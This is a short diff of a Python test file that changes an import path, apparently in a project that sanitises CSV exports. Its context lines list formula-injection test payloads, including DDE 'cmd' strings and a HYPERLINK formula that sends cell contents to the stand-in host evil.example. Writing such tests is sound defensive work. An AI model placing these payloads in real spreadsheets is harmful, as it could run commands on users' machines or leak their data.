@@ -8,7 +8,7 @@ from hypothesis import strategies as st
 from knooppunt.csv_safe import FORMULA_TRIGGERS, csv_bytes, is_formula, phone_cell, read_cells, safe_cell
 from knooppunt.directory import csv_io
 from knooppunt.directory.validation import normalise_phone
-from knooppunt.services.agreements import AgreementFilter
+from knooppunt.services.outcomes.agreements import AgreementFilter
 
 PAYLOADS = [
     "=cmd|'/c calc'!A0", '=HYPERLINK("http://evil.example/?x="&A1,"Klik hier")', "@SUM(1+1)*cmd|' /C calc'!A0",
